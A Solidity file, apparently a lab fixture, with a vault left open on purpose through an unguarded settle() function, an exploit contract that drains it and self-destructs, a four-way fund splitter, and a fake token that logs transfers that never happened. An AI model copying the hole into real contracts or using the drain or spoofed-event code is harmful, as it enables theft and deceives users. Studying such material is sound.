// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.37;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";

/// A vault for ether and one token. Its fault: anyone can settle anyone's money.
contract Sluice {
    IERC20 public immutable token;
    mapping(address => uint256) public ether_;
    mapping(address => uint256) public tokens;

    event Settled(address to, uint256 etherPaid, uint256 tokensPaid);

    constructor(IERC20 token_) {
        token = token_;
    }

    function deposit(uint256 amount) external payable {
        ether_[msg.sender] += msg.value;
        tokens[msg.sender] += amount;
        if (amount > 0) require(token.transferFrom(msg.sender, address(this), amount));
    }

    function withdraw(uint256 amount, uint256 tokenAmount) external {
        ether_[msg.sender] -= amount;
        tokens[msg.sender] -= tokenAmount;
        _pay(payable(msg.sender), amount, tokenAmount);
    }

    function settle(address payable to, uint256 amount, uint256 tokenAmount) external {
        _pay(to, amount, tokenAmount);
        emit Settled(to, amount, tokenAmount);
    }

    function _pay(address payable to, uint256 amount, uint256 tokenAmount) private {
        if (tokenAmount > 0) require(token.transfer(to, tokenAmount));
        (bool sent, ) = to.call{value: amount}("");
        require(sent);
    }
}

/// Empties the vault for whoever made it. A first attempt moves money and is undone; the last part leaves as the contract destroys itself.
contract SluiceGate {
    error Undone();

    function run(Sluice vault, uint256 amount, uint256 tokenAmount, address payable to, uint256 first) external {
        try this.attempt(vault, to, amount / 2) {} catch {}
        vault.settle(payable(address(this)), amount, tokenAmount);
        require(vault.token().transfer(to, tokenAmount));
        (bool sent, ) = to.call{value: first}("");
        require(sent);
        selfdestruct(to);
    }

    function attempt(Sluice vault, address payable to, uint256 amount) external {
        vault.settle(to, amount, 0);
        revert Undone();
    }

    receive() external payable {}
}

/// Pays what it gets to four accounts in equal parts, in the same transaction.
contract Weir {
    function split(address payable[4] calldata to) external payable {
        for (uint256 index = 0; index < 4; index++) {
            (bool sent, ) = to[index].call{value: msg.value / 4}("");
            require(sent);
        }
    }
}

/// Logs transfers that never happened, in the name of anyone.
contract FakeToll {
    event Transfer(address indexed from, address indexed to, uint256 value);

    function symbol() external pure returns (string memory) {
        return "TOLL";
    }

    function decimals() external pure returns (uint8) {
        return 6;
    }

    function claim(address from, address to, uint256 value) external {
        emit Transfer(from, to, value);
    }
}
